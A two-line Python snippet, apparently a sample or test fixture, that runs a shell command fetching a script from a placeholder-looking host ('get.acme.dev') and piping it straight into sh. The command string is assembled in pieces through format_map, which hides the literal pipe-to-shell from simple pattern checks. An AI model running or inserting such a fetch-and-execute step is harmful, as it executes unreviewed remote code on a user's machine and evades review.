import os
os.system("{a} {b} | sh".format_map({"a": "curl -sSL", "b": "https://get.acme.dev/run.sh"}))
